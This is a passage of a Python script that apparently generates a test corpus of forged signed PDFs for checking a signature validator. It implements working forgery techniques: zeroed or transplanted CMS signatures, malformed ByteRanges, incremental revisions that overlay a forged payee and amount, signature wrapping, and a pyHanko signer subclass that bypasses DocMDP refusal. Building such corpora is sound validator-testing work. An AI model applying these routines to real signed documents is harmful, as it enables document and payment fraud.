                           check=True, capture_output=True, timeout=120)
        except FileNotFoundError as error:
            raise ForgeryError("pdftoppm (poppler-utils) is needed to find ink on page 1"
                               ) from error
        except subprocess.CalledProcessError as error:
            raise ForgeryError("pdftoppm cannot render page 1: "
                               + error.stderr.decode("utf-8", "replace")[:300]) from error
        pgm = target.with_suffix(".pgm").read_bytes()
    header = PGM_HEADER.match(pgm)
    if header is None or int(header.group(3)) != 255:
        raise ForgeryError("pdftoppm did not write an 8-bit PGM")
    width, height = int(header.group(1)), int(header.group(2))
    pixels = pgm[header.end():header.end() + width * height]
    if len(pixels) != width * height:
        raise ForgeryError("pdftoppm wrote a short PGM")
    return PageRaster(width, height, (x0, y0, x1, y1), pixels)


@functools.lru_cache(maxsize=16)
def free_area(data: bytes) -> tuple[int, int, int, int]:
    """A free (blank) rectangle of page 1: every pixel under it and FREE_MARGIN points around
    it is paper (>= WHITE_LEVEL), at RENDER_DPI and again at CONFIRM_DPI. Of the first of
    FREE_SIZES that fits: the topmost position, and of those the rightmost, trying positions
    every FREE_STEP points from the top right corner. (A scan's top margin above its heading
    is often less than 62 pt high, and scanner specks are everywhere: hence smaller sizes.)"""
    coarse = render_page_one(data, RENDER_DPI)
    x0, y0, x1, y1 = coarse.box
    for width, height in FREE_SIZES:
        top = math.floor(y1) - FREE_MARGIN
        while top - height - FREE_MARGIN >= y0:
            right = math.floor(x1) - FREE_MARGIN
            while right - width - FREE_MARGIN >= x0:
                rect = (right - width, top - height, right, top)
                grown = (rect[0] - FREE_MARGIN, rect[1] - FREE_MARGIN,
                         rect[2] + FREE_MARGIN, rect[3] + FREE_MARGIN)
                if coarse.is_paper(grown) and render_page_one(data, CONFIRM_DPI).is_paper(grown):
                    return rect
                right -= FREE_STEP
            top -= FREE_STEP
    sizes = ", ".join(f"{width}x{height}" for width, height in FREE_SIZES)
    raise ForgeryError(f"page 1 has no free area of {sizes} pt: no rectangle whose pixels (with "
                       f"a {FREE_MARGIN} pt margin) are all at least {WHITE_LEVEL} at "
                       f"{RENDER_DPI} and {CONFIRM_DPI} dpi")


def inked_area(data: bytes) -> tuple[int, int, int, int]:
    """A 420x60 pt rectangle over signed content of page 1: the payee/amount lines when the
    page draws text with fonts (the documents made here), else the middle of the page (a scan);
    refused when the rendered page has (almost) no ink there."""
    doc = Document(data)
    page = doc.page_refs()[0]
    if "/Font" in doc.effective_resources(page):
        rect = annotation_rect(doc, page)
    else:
        x0, y0, _, y1 = (int(value) for value in page_box(doc, page))
        middle = (y0 + y1) // 2
        rect = (x0 + 60, middle - 30, x0 + 480, middle + 30)
    inked, total = render_page_one(data).ink(rect)
    if total == 0 or inked * 50 < total:
        raise ForgeryError(f"page 1 has almost no ink under {rect} ({inked} of {total} pixels)")
    return rect


# ---------------------------------------------------------------------------------------------
# Crafted signatures: a revision signed here, over a ByteRange chosen by the case
# ---------------------------------------------------------------------------------------------

@dataclasses.dataclass(frozen=True)
class Layout:
    """Where the crafted revision's pieces are in the finished file."""
    contents_start: int  # the "<" of /Contents
    contents_end: int  # just after its ">"
    total: int
    extra_span: tuple[int, int] | None  # the object written right after the signature object


def standard_range(layout: Layout) -> tuple[int, int, int, int]:
    return 0, layout.contents_start, layout.contents_end, layout.total - layout.contents_end


@dataclasses.dataclass
class CraftedSignature:
    """A signature revision assembled by hand and signed with pyHanko's CMS signer."""
    signer: signers.Signer | None
    field_name: str
    rect: tuple[int, int, int, int] = (0, 0, 0, 0)
    appearance_lines: list[str] = dataclasses.field(default_factory=list)
    appearance_body: bytes | None = None  # a whole form XObject, instead of appearance_lines
    certify: bool = False
    tail_in_dict: bytes = b""  # written after /Contents inside the signature dictionary
    extra_content: bytes | None = None  # a page-1 content stream written after the signature
    byte_range: Callable[[Layout], tuple[int, int, int, int]] = standard_range

    @property
    def signed(self) -> bool:
        return self.signer is not None


BR_PLACEHOLDER = b"[0000000000 0000000000 0000000000 0000000000]"
DOCMDP_REFERENCE = (b"<< /Type /SigRef /TransformMethod /DocMDP "
                    b"/TransformParams << /Type /TransformParams /P 2 /V /1.2 >> >>")


def signature_dictionary(spec: CraftedSignature) -> bytes:
    parts = [b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached",
             b"/M " + pdf_date(datetime.datetime.now(datetime.timezone.utc))]
    if spec.certify:
        parts.append(b"/Reference [" + DOCMDP_REFERENCE + b"]")
    parts.append(b"/ByteRange " + BR_PLACEHOLDER)
    parts.append(b"/Contents <" + b"0" * (2 * CMS_RESERVED_BYTES) + b">" + spec.tail_in_dict)
    return b" ".join(parts) + b" >>"


def widget_dictionary(spec: CraftedSignature, revision: Revision, page: generic.Reference,
                      sig_number: int | None) -> bytes:
    visible = spec.rect != (0, 0, 0, 0)
    entries = [b"/Type /Annot /Subtype /Widget /FT /Sig /T " + pdf_text(spec.field_name),
               b"/Rect [%d %d %d %d]" % spec.rect, b"/F %d" % (4 if visible else 132),
               b"/P " + ref_text(page.idnum, page.generation)]
    if sig_number is not None:
        entries.append(b"/V " + ref_text(sig_number))
    if visible:
        appearance = (revision.add(spec.appearance_body) if spec.appearance_body is not None
                      else appearance_for(revision, spec.rect, spec.appearance_lines))
        entries.append(b"/AP << /N %s >>" % ref_text(appearance))
    return b"<< " + b" ".join(entries) + b" >>"


def register_field(doc: Document, revision: Revision, widget: int,
                   sig_number: int | None, certify: bool) -> None:
    """Add the field to the AcroForm (and /Perms for a certification)."""
    form, form_ref = doc.acroform()
    old_fields = [serialize(item) for item in form.raw_get("/Fields")] if "/Fields" in form else []
    form[name("/Fields")] = ref_list(old_fields + [ref_text(widget)])
    form[name("/SigFlags")] = generic.NumberObject(3)
    extra = {}
    if certify and sig_number is not None:
        extra["Perms"] = Raw(b"<< /DocMDP %s >>" % ref_text(sig_number))
    if form_ref is not None:
        revision.put_ref(form_ref, form)
        if extra:
            revision.put_ref(doc.root_ref, catalog_with(doc, **extra))
    else:
        revision.put_ref(doc.root_ref, catalog_with(doc, AcroForm=form, **extra))


def add_signature_field(doc: Document, revision: Revision, spec: CraftedSignature
                        ) -> tuple[int | None, int | None]:
    """Field/widget on page 1, page and AcroForm updated; returns (signature, extra) numbers."""
    page = doc.page_refs()[0]
    sig_number = revision.new_number() if spec.signed else None
    extra = revision.new_number() if spec.extra_content is not None else None
    widget = revision.new_number()
    revision.put(widget, widget_dictionary(spec, revision, page, sig_number))
    edit_page(doc, revision, page, annotations=[widget], contents=[extra] if extra else [],
              font_name="/SohoaForged" if extra else None)
    register_field(doc, revision, widget, sig_number, spec.certify)
    return sig_number, extra


def sign_digest(signer: signers.Signer, digest: bytes) -> bytes:
    return asyncio.run(signer.async_sign(digest, "sha256", use_pades=True)).dump()


def fill_signature(data: bytes, sig_offset: int, spec: CraftedSignature, layout: Layout) -> bytes:
    """Write the ByteRange the spec chose, sign the covered bytes, write the CMS."""
    a, b, c, d = spec.byte_range(layout)
    placeholder = data.index(BR_PLACEHOLDER, sig_offset)
    numbers = b"[%010d %010d %010d %010d]" % (a, b, c, d)
    data = data[:placeholder] + numbers + data[placeholder + len(numbers):]
    digest = hashlib.sha256(data[a:a + b] + data[c:c + d]).digest()
    cms_hex = sign_digest(spec.signer, digest).hex().encode("ascii")
    start = layout.contents_start + 1
    room = min(c, layout.contents_end - 1) - start
    if len(cms_hex) > room:
        raise ForgeryError(f"CMS of {len(cms_hex)} hex digits does not fit in {room}")
    return data[:start] + cms_hex + data[start + len(cms_hex):]


def append_crafted_signature(doc: Document, spec: CraftedSignature
                             ) -> tuple[bytes, Layout | None]:
    """Append a signature revision built here; the extra object follows the signature object."""
    revision = Revision(doc)
    sig_number, extra = add_signature_field(doc, revision, spec)
    if sig_number is None:
        return append_revision(revision), None
    revision.put(sig_number, signature_dictionary(spec))
    if extra is not None:
        revision.put(extra, stream_body(spec.extra_content))
    data, offsets = append_with_offsets(revision)
    sig_at = offsets[sig_number][0]
    start = data.index(b"/Contents <", sig_at) + len(b"/Contents ")
    end = data.index(b">", start) + 1
    extra_span = None
    if extra is not None:
        extra_at = offsets[extra][0]
        extra_span = (extra_at, data.index(b"endobj\n", extra_at) + len(b"endobj\n"))
    layout = Layout(start, end, len(data), extra_span)
    return fill_signature(data, sig_at, spec, layout), layout


# ---------------------------------------------------------------------------------------------
# pyHanko signing and the documents made here
# ---------------------------------------------------------------------------------------------

def load_signer(certs: Path, stem: str) -> signers.SimpleSigner:
    signer = signers.SimpleSigner.load_pkcs12(str(certs / f"{stem}.p12"), passphrase=PASSWORD)
    if signer is None:
        raise ForgeryError(f"cannot load {certs / stem}.p12")
    return signer


class DocMDPBlindSigner(signers.PdfSigner):
    """pyHanko's signer without its refusal to sign a document certified with DocMDP P=1, so
    that a case can show what a signature added after P=1 looks like (pyHanko's own
    validation still judges the result)."""

    def _enforce_certification_constraints(self, reader: PdfFileReader) -> None:
        return None


def pyhanko_sign(data: bytes, signer: signers.Signer, field_name: str,
                 certify: bool = False, lock: list[str] | None = None, *,
                 permission: fields.MDPPerm = fields.MDPPerm.FILL_FORMS,
                 box: tuple[int, int, int, int] | None = None,
                 stamp_style: BaseStampStyle | None = None,
                 ignore_docmdp: bool = False) -> bytes:
    """Sign (or certify, with DocMDP P=2 unless `permission` says otherwise) with pyHanko, as
    a PAdES signature; `lock` names form fields the signature locks (FieldMDP, action
    Include); `box` makes a new visible field on page 1 (pyHanko's default stamp appearance
    unless `stamp_style` is given); `ignore_docmdp` signs even after a P=1 certification."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    meta = signers.PdfSignatureMetadata(
        field_name=field_name, md_algorithm="sha256", subfilter=fields.SigSeedSubFilter.PADES,
        certify=certify, docmdp_permissions=permission)
    spec = None
    if lock or box is not None:
        mdp = (fields.FieldMDPSpec(action=fields.FieldMDPAction.INCLUDE, fields=lock)
               if lock else None)
        spec = fields.SigFieldSpec(sig_field_name=field_name, field_mdp_spec=mdp, box=box,
                                   on_page=0)
    kind = DocMDPBlindSigner if ignore_docmdp else signers.PdfSigner
    return kind(meta, signer=signer, new_field_spec=spec,
                stamp_style=stamp_style).sign_pdf(writer).getvalue()


def build_pdf(objects: dict[int, bytes], root: int = 1, info: int | None = 8) -> bytes:
    """A complete single-revision PDF with a classic xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += object_bytes(number, 0, objects[number])
    size = max(objects) + 1
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else (
            b"0000000000 00000 f \n")
    file_id = hashlib.md5(bytes(out)).hexdigest().encode("ascii")
    out += b"trailer\n<< /Size %d /Root %d 0 R" % (size, root)
    if info is not None:
        out += b" /Info %d 0 R" % info
    out += b" /ID [<%s> <%s>] >>\nstartxref\n%d\n%%%%EOF\n" % (file_id, file_id, at)
    return bytes(out)


MEDIA_BOX = b"[0 0 595 842]"
BENIGN_PAGE_1 = [(72, 770, 18, "SOHOA TEST DOCUMENT - PAYMENT ORDER No. 2025-0001"),
                 (72, 642, 16, "Payee: Nguyen Van An"),
                 (72, 618, 16, "Amount: 1,000,000 VND"),
                 (72, 560, 12, "Purpose: office supplies for the ward office."),
                 (72, 540, 12, "Approved by the officer whose signature is attached.")]
PAGE_2 = [(72, 770, 16, "Page 2 - Terms"), (72, 740, 12, "This order is valid for 30 days.")]
MALICIOUS_PAGE_1 = BENIGN_PAGE_1[:1] + [(72, 642, 16, FORGED_PAYEE), (72, 618, 16, FORGED_AMOUNT)]

# Object numbers of the documents made here (see base_objects and the shadow documents).
HIDE_MALICIOUS, HIDE_OVERLAY, HIDE_EMPTY = 6, 9, 10
REPLACE_FIELD, REPLACE_ENCODING, REPLACE_DESCRIPTOR = 9, 13, 14
HIDDEN_CONTENT, HIDDEN_STREAM, HIDDEN_PAGES = 6, 9, 10


def page_object(parent: int, contents: bytes, extra: bytes = b"",
                fonts: bytes = b"/F1 5 0 R", xobjects: bytes = b"") -> bytes:
    more = b" /XObject << %s >>" % xobjects if xobjects else b""
    return (b"<< /Type /Page /Parent %d 0 R /MediaBox %s /Resources << /Font << %s >>%s >> "
            b"/Contents %s%s >>" % (parent, MEDIA_BOX, fonts, more, contents, extra))


def base_objects(page_1_contents: bytes = b"6 0 R") -> dict[int, bytes]:
    """Catalog 1, pages 2, page objects 3-4, font 5, content streams 6-7, info 8."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
        3: page_object(2, page_1_contents),
        4: page_object(2, b"7 0 R"),
        5: HELVETICA,
        6: stream_body(text_content(BENIGN_PAGE_1)),
        7: stream_body(text_content(PAGE_2)),
        8: b"<< /Title (Sohoa forgery corpus base document) /Producer (make_forgeries.py) >>",
    }


LOGO = 9  # the letterhead logo of the base document (a form XObject)
LOGO_CONTENT = (b"0 0 0.45 rg 0 0 40 40 re f 1 g 6 6 28 28 re f "
                b"0 0 0.45 rg 12 12 16 16 re f\n")


def base_document() -> bytes:
    """The base objects, with page 1 also drawing a small letterhead logo (form XObject 9,
    top left above the title), so that the document has a signed XObject an appearance can
    re-use (ssa-appearance-reuses-signed-objects)."""
    objects = base_objects()
    objects[3] = page_object(2, b"6 0 R", xobjects=b"/Logo %d 0 R" % LOGO)
    objects[6] = stream_body(text_content(BENIGN_PAGE_1) + b"q 1 0 0 1 72 790 cm /Logo Do Q\n")
    objects[LOGO] = stream_body(LOGO_CONTENT, b"/Type /XObject /Subtype /Form /BBox [0 0 40 40] "
                                              b"/Resources << >>")
    return build_pdf(objects)


def other_document() -> bytes:
    """A different document, whose signature is transplanted by usf-contents-foreign-cms."""
    objects = base_objects()
    objects[6] = stream_body(text_content([(72, 770, 18, "AN UNRELATED SIGNED DOCUMENT")]))
    return build_pdf(objects)


def shadow_hide_document() -> bytes:
    """Page 1 draws the malicious text (6), then an opaque page-sized overlay with the benign
    text (9); object 10 is an unused empty stream."""
    objects = base_objects(b"[6 0 R 9 0 R]")
    objects[HIDE_MALICIOUS] = stream_body(text_content(MALICIOUS_PAGE_1))
    objects[HIDE_OVERLAY] = stream_body(text_content(BENIGN_PAGE_1, cover=(0, 0, 595, 842)))
    objects[HIDE_EMPTY] = stream_body(b"q Q\n")
    return build_pdf(objects)


FIELD_RECT = (180, 582, 420, 604)
UNIFORM_WIDTHS = b"[" + b" ".join([b"556"] * 95) + b"]"


def field_appearance(value: str) -> bytes:
    return b"/Tx BMC q BT /Helv 12 Tf 2 7 Td %s Tj ET Q EMC\n" % pdf_text(value)


def font_descriptor(font_name: bytes, flags: int, stem: int) -> bytes:
    return (b"<< /Type /FontDescriptor /FontName %s /Flags %d /FontBBox [-166 -225 1000 931] "
            b"/ItalicAngle 0 /Ascent 718 /Descent -207 /CapHeight 718 /StemV %d >>"
            % (font_name, flags, stem))


def shadow_replace_document() -> bytes:
    """A text field "amount" (9, appearance 10, AcroForm 11), and a font F2 (12) with an
    indirect encoding (13) and font descriptor (14) that prints "Total due: 1,000,000 VND"."""
    objects = base_objects()
    width, height = FIELD_RECT[2] - FIELD_RECT[0], FIELD_RECT[3] - FIELD_RECT[1]
    objects[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm 11 0 R >>"
    objects[3] = page_object(2, b"6 0 R", b" /Annots [9 0 R]", b"/F1 5 0 R /F2 12 0 R")
    lines = BENIGN_PAGE_1[:2] + [(72, 588, 12, "Amount:")] + BENIGN_PAGE_1[3:]
    objects[6] = stream_body(text_content(lines) + text_content(
        [(72, 500, 16, "Total due: 1,000,000 VND")], b"/F2"))
    objects[REPLACE_FIELD] = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (1,000,000 VND) "
        b"/DA (/Helv 12 Tf 0 g) /Rect [%d %d %d %d] /F 4 /P 3 0 R /AP << /N 10 0 R >> >>"
        % FIELD_RECT)
    objects[10] = form_xobject(width, height, field_appearance("1,000,000 VND"), 5)
    objects[11] = b"<< /Fields [9 0 R] /DA (/Helv 12 Tf 0 g) /DR << /Font << /Helv 5 0 R >> >> >>"
    objects[12] = (b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FirstChar 32 "
                   b"/LastChar 126 /Widths %s /Encoding 13 0 R /FontDescriptor 14 0 R >>"
                   % UNIFORM_WIDTHS)
    objects[REPLACE_ENCODING] = b"<< /Type /Encoding /BaseEncoding /WinAnsiEncoding >>"
    objects[REPLACE_DESCRIPTOR] = font_descriptor(b"/Helvetica", 32, 88)
    return build_pdf(objects)


def shadow_hide_replace_document() -> bytes:
    """Revision 0: page 1's content (6) is malicious, and an unused malicious stream (9) and an
    unused page tree (10, with page 11) exist. Revision 1 redefines 6 with the benign text."""
    objects = base_objects()
    objects[HIDDEN_CONTENT] = stream_body(text_content(MALICIOUS_PAGE_1))
    objects[HIDDEN_STREAM] = stream_body(text_content(MALICIOUS_PAGE_1))
    objects[HIDDEN_PAGES] = b"<< /Type /Pages /Kids [11 0 R] /Count 1 >>"
    objects[11] = page_object(HIDDEN_PAGES, b"9 0 R")
    revision = Revision(Document(build_pdf(objects)))
    revision.put(HIDDEN_CONTENT, stream_body(text_content(BENIGN_PAGE_1)))
    return append_revision(revision)


# ---------------------------------------------------------------------------------------------
# Inputs
# ---------------------------------------------------------------------------------------------

@dataclasses.dataclass
class Inputs:
    certs: Path
    officer: signers.SimpleSigner
    approver: signers.SimpleSigner
    rogue: signers.SimpleSigner
    signed: bytes
    approved: bytes
    certified: bytes
    shadow_hide: bytes
    shadow_replace: bytes
    shadow_replace_locked: bytes
    shadow_hide_replace: bytes
    foreign: bytes

    @functools.cached_property
    def certified_p1(self) -> bytes:
        """The signed input's unsigned revision, certified here by pyHanko with DocMDP P=1."""
        return pyhanko_sign(unsigned_original(self.signed), self.officer, "Certification",
                            certify=True, permission=fields.MDPPerm.NO_CHANGES)

    @functools.cached_property
    def certified_p3(self) -> bytes:
        """The signed input's unsigned revision, certified here by pyHanko with DocMDP P=3."""
        return pyhanko_sign(unsigned_original(self.signed), self.officer, "Certification",
                            certify=True, permission=fields.MDPPerm.ANNOTATE)


def read_input(path: Path | None) -> bytes | None:
    """A given input's bytes, refused when too large or not a PDF."""
    if path is None:
        return None
    if path.stat().st_size > MAX_INPUT_BYTES:
        raise ForgeryError(f"{path} is larger than {MAX_INPUT_BYTES} bytes")
    data = path.read_bytes()
    if not data.startswith(b"%PDF-"):
        raise ForgeryError(f"{path} does not start with %PDF-")
    return data


def check_certified(data: bytes) -> None:
    """Refuse a --certified input whose first signature is not a DocMDP P=2 certification."""
    embedded = PdfFileReader(io.BytesIO(data), strict=False).embedded_signatures
    if not embedded or embedded[0].docmdp_level != fields.MDPPerm.FILL_FORMS:
        raise ForgeryError("--certified: the first signature is not a DocMDP P=2 certification")


def prepare_inputs(args: argparse.Namespace) -> Inputs:
    officer, approver = load_signer(args.certs, "officer"), load_signer(args.certs, "approver")
    rogue = load_signer(args.certs, "rogue-signer")
    given = {key: read_input(getattr(args, key)) for key in ("signed", "approved", "certified")}
    signed = given["signed"] or pyhanko_sign(base_document(), officer, "Officer")
    approved = given["approved"] or pyhanko_sign(
        pyhanko_sign(base_document(), officer, "Officer"), approver, "Approver")
    certified = given["certified"] or pyhanko_sign(base_document(), officer, "Certification",
                                                   certify=True)
    only_signature(signed, 1)
    only_signature(approved, 2)
    check_certified(certified)
    return Inputs(
        args.certs, officer, approver, rogue, signed, approved, certified,
        shadow_hide=pyhanko_sign(shadow_hide_document(), officer, "Officer"),
        shadow_replace=pyhanko_sign(shadow_replace_document(), officer, "Officer"),
        shadow_replace_locked=pyhanko_sign(shadow_replace_document(), officer, "Officer", lock=["amount"]),
        shadow_hide_replace=pyhanko_sign(shadow_hide_replace_document(), officer, "Officer"),
        foreign=pyhanko_sign(other_document(), officer, "Officer"))


# ---------------------------------------------------------------------------------------------
# USF: the signature dictionary made meaningless
# ---------------------------------------------------------------------------------------------

def last_slot(data: bytes) -> SignatureSlot:
    """The last signature dictionary in the file."""
    slots = find_signatures(data)
    if not slots:
        raise ForgeryError("no signature found in the bytes")
    return slots[-1]


def set_contents(data: bytes, replacement: bytes) -> bytes:
    """Replace the last signature's /Contents key and value."""
    return overwrite(data, last_slot(data).contents_span, replacement)


def set_byte_range(data: bytes, replacement: bytes) -> bytes:
    """Replace the last signature's /ByteRange key and value."""
    return overwrite(data, last_slot(data).byte_range_span, replacement)


def set_hex(data: bytes, blob_hex: bytes) -> bytes:
    """Put other hex digits in the last signature's /Contents string, zero-padded."""
    start, end = last_slot(data).hex_span
    if len(blob_hex) > end - start - 2:
        raise ForgeryError("the replacement CMS does not fit in /Contents")
    return overwrite(data, (start, end), b"<" + blob_hex.ljust(end - start - 2, b"0") + b">")


def usf_contents_zeros(data: bytes) -> bytes:
    """/Contents made of zero hex digits only."""
    return set_hex(data, b"")


def usf_foreign_cms(data: bytes, foreign: bytes) -> bytes:
    """/Contents replaced by the CMS signature of another document."""
    return set_hex(data, last_slot(foreign).cms_der(foreign).hex().encode("ascii"))


def usf_no_signer_info(data: bytes) -> bytes:
    """The CMS kept, but with an empty SignerInfos set."""
    content = cms.ContentInfo.load(last_slot(data).cms_der(data))
    signed_data = content["content"].copy()
    signed_data["signer_infos"] = cms.SignerInfos([])
    blob = cms.ContentInfo({"content_type": "signed_data", "content": signed_data}).dump()
    return set_hex(data, blob.hex().encode("ascii"))


def usf_byterange_negative(data: bytes) -> bytes:
    """Negative lengths, in the longest form that fits the space of the original array."""
    slot = last_slot(data)
    a, b, c, d = slot.byte_range
    room = slot.byte_range_span[1] - slot.byte_range_span[0]
    for text in (b"/ByteRange [%d -%d %d -%d]" % (a, b, c, d), b"/ByteRange [%d -%d %d %d]" % (
            a, b, c, d), b"/ByteRange [%d %d %d -1]" % (a, b, c)):
        if len(text) <= room:
            return overwrite(data, slot.byte_range_span, text)
    raise ForgeryError("no room in /ByteRange for negative numbers")


def usf_byterange_three(data: bytes) -> bytes:
    """/ByteRange with only three numbers."""
    a, b, c, _ = last_slot(data).byte_range
    return set_byte_range(data, b"/ByteRange [%d %d %d]" % (a, b, c))


def usf_byterange_beyond_eof(data: bytes) -> bytes:
    """A ByteRange whose second part runs past the end of the file, in the space available."""
    slot = last_slot(data)
    a, b, c, d = slot.byte_range
    room = slot.byte_range_span[1] - slot.byte_range_span[0]
    for numbers in ((a, b, c, d + len(data)), (a, b, c, 10 ** len(str(d)) - 1),
                    (a, b, len(data), d)):
        text = b"/ByteRange [%d %d %d %d]" % numbers
        if len(text) <= room and numbers[2] + numbers[3] > len(data):
            return overwrite(data, slot.byte_range_span, text)
    raise ForgeryError("no room in /ByteRange for an out-of-range value")


# ---------------------------------------------------------------------------------------------
# ISA: revisions appended after the last signature
# ---------------------------------------------------------------------------------------------

def overlay_revision(data: bytes) -> Revision:
    """A revision that makes page 1 show the forged payee and amount over the real ones."""
    doc = Document(data)
    revision = Revision(doc)
    forge_page_content(doc, revision, doc.page_refs()[0], overlay=True)
    return revision


def isa_page_content(data: bytes) -> bytes:
    """Page 1 redefined to draw only a new, forged content stream."""
    doc = Document(data)
    revision = Revision(doc)
    forge_page_content(doc, revision, doc.page_refs()[0], overlay=False)
    return append_revision(revision)


def isa_redefine_stream(data: bytes) -> bytes:
    """Page 1's content stream redefined (same number) in a revision with a classic table."""
    doc = Document(data)
    revision = Revision(doc)
    replace_content_stream(doc, revision, doc.page_refs()[0])
    return append_revision(revision, as_stream=False)


def isa_add_page(data: bytes) -> bytes:
    """A forged page appended to page 1's parent; /Count raised on every ancestor."""
    doc = Document(data)
    revision = Revision(doc)
    first = doc.page_refs()[0]
    parent = doc.get(first).raw_get("/Parent").reference
    box = page_box(doc, first)
    resources = resources_with_font(doc, revision, first, "/SohoaForged")
    content = revision.add(stream_body(text_content(
        [(72, int(box[3]) - 100, 16, "ANNEX: payment goes to Mallory Trading Ltd"),
         (72, int(box[3]) - 124, 16, FORGED_AMOUNT)], b"/SohoaForged")))
    page = revision.add(b"<< /Type /Page /Parent %s /MediaBox [%s] /Resources %s /Contents %s >>"
                        % (ref_text(parent.idnum, parent.generation),
                           b" ".join(b"%g" % value for value in box), serialize(resources),
                           ref_text(content)))
    kids = [serialize(kid) for kid in doc.get(parent).raw_get("/Kids")] + [ref_text(page)]
    node, hops = parent, 0
    while node is not None and hops < 64:
        pages = doc.copy_dict(node)
        pages[name("/Count")] = generic.NumberObject(int(doc.get(node)["/Count"]) + 1)
        if node == parent:
            pages[name("/Kids")] = ref_list(kids)
        revision.put_ref(node, pages)
        up = doc.get(node).raw_get("/Parent") if "/Parent" in doc.get(node) else None
        node, hops = (up.reference if isinstance(up, generic.IndirectObject) else None), hops + 1
    return append_revision(revision)


def isa_add_annotation(data: bytes) -> bytes:
    """An open sticky-note annotation added to page 1."""
    doc = Document(data)
    revision = Revision(doc)
    page = doc.page_refs()[0]
    x0, y1 = (int(value) for value in page_box(doc, page)[0::3])
    note = revision.add(b"<< /Type /Annot /Subtype /Text /Rect [%d %d %d %d] /Open true "
                        b"/Contents (Payment redirected to Mallory Trading Ltd.) /F 4 >>"
                        % (x0 + 420, y1 - 230, x0 + 444, y1 - 206))
    edit_page(doc, revision, page, annotations=[note])
    return append_revision(revision)


def isa_replace_catalog(data: bytes) -> bytes:
    """A new catalog object whose page tree holds one forged page; /Root names it."""
    doc = Document(data)
    revision = Revision(doc)
    box = page_box(doc, doc.page_refs()[0])
    font = revision.add(HELVETICA)
    content = revision.add(stream_body(text_content(
        [(72, int(box[3]) - 72, 18, "SOHOA TEST DOCUMENT - PAYMENT ORDER No. 2025-0001")]
        + forged_lines(box), b"/F1")))
    pages, page = revision.new_number(), revision.new_number()
    revision.put(page, b"<< /Type /Page /Parent %s /MediaBox [%s] /Resources << /Font << /F1 %s "
                 b">> >> /Contents %s >>" % (ref_text(pages), b" ".join(b"%g" % v for v in box),
                                             ref_text(font), ref_text(content)))
    revision.put(pages, b"<< /Type /Pages /Kids [%s] /Count 1 >>" % ref_text(page))
    revision.root = ref_text(revision.add(serialize(catalog_with(doc, Pages=Raw(ref_text(pages))))))
    return append_revision(revision)


def signed_streams(doc: Document, limit: int) -> list[generic.Reference]:
    """Stream objects (other than xref streams) whose bytes start before `limit`."""
    xrefs, found = doc.reader.xrefs, set()
    for revision in range(xrefs.total_revisions):
        for ref in xrefs.explicit_refs_in_revision(revision):
            where = xrefs.get_historical_ref(ref, revision)
            if isinstance(where, int) and where < limit and ref not in xrefs.xref_stream_refs:
                found.add(ref)
    streams = []
    for ref in sorted(found, key=lambda item: (item.idnum, item.generation)):
        with contextlib.suppress(Exception):
            value = doc.get(ref)
            if isinstance(value, generic.StreamObject) and value.get("/Type") != "/XRef":
                streams.append(ref)
    return streams


def isa_repoint_xref(data: bytes) -> bytes:
    """An xref-only revision: page 1's content stream entry points at the bytes of another
    stream object of the signed part (page 2's content when there is a page 2)."""
    doc = Document(data)
    pages = doc.page_refs()
    target = doc.content_refs(pages[0])[0]
    a, b, _, _ = find_signatures(data)[0].byte_range
    donors = [ref for page in pages[1:] for ref in doc.content_refs(page)]
    donors += signed_streams(doc, a + b)
    donors = [ref for ref in donors if ref != target]
    if not donors:
        raise ForgeryError("no other stream object in the signed part to point at")
    revision = Revision(doc)
    revision.repointed[target.idnum] = (doc.offset_of(donors[0]), target.generation)
    return append_revision(revision, as_stream=False)


def isa_between_signatures(data: bytes, approver: signers.Signer) -> bytes:
    """Content changed after the officer signed, then the approver signs the changed file."""
    return pyhanko_sign(append_revision(overlay_revision(data)), approver, "Approver")


# ---------------------------------------------------------------------------------------------
# SWA: signed bytes moved, or more than /Contents left out of the ByteRange
# ---------------------------------------------------------------------------------------------

def signature_revision(doc: Document, slot: SignatureSlot) -> int:
    """The revision whose xref section lies in the signature's second signed part."""
    _, _, c, d = slot.byte_range
    xrefs = doc.reader.xrefs
    for revision in range(xrefs.total_revisions):
        if c <= xrefs.get_startxref_for_revision(revision) < c + d:
            return revision
    raise ForgeryError("no xref section inside the second signed part")


def wrapped_entries(doc: Document, revision: int, c: int, shift: int
                    ) -> dict[int, tuple[str, int, int]]:
    """The signature revision's own entries, with offsets in the moved part shifted."""
    entries = {}
    for ref in doc.reader.xrefs.explicit_refs_in_revision(revision):
        where = doc.reader.xrefs.get_historical_ref(ref, revision)
        if isinstance(where, int):
            entries[ref.idnum] = ("n", where + shift if where >= c else where, ref.generation)
    return entries


def objects_blob(revision: Revision) -> tuple[bytes, dict[int, tuple[int, int]]]:
    """The revision's objects serialized, with offsets relative to the blob."""
    blob, offsets = bytearray(), {}
    for number, generation, body in revision.objects:
        offsets[number] = (len(blob), generation)
        blob += object_bytes(number, generation, body)
    return bytes(blob), offsets


def swa_classic(data: bytes) -> bytes:
    """Move the second signed part further down. The gap then holds the CMS without padding, a
    copy of the rest of the signature dictionary whose /ByteRange names the new position (or a
    second /ByteRange when the first is in the first signed part), an xref section exactly
    where the signed startxref points, and the objects that forge page 1. Revisions after
    the signed one (such as a /DSS) are dropped first."""
    slot = last_slot(data)
    a, b, c, d = slot.byte_range
    if c + d > len(data):
        raise ForgeryError("the last signature's ByteRange runs past the end of the file")
    data = data[:c + d]
    doc = Document(data)
    sig_revision = signature_revision(doc, slot)
    xrefs = doc.reader.xrefs
    old_xref = xrefs.get_startxref_for_revision(sig_revision)
    previous = xrefs.get_startxref_for_revision(sig_revision - 1) if sig_revision else None
    revision = Revision(doc)
    forge_page_content(doc, revision, doc.page_refs()[0], overlay=True)
    blob, relative = objects_blob(revision)

    def section_for(objects_at: int, shift: int) -> bytes:
        entries = wrapped_entries(doc, sig_revision, c, shift)
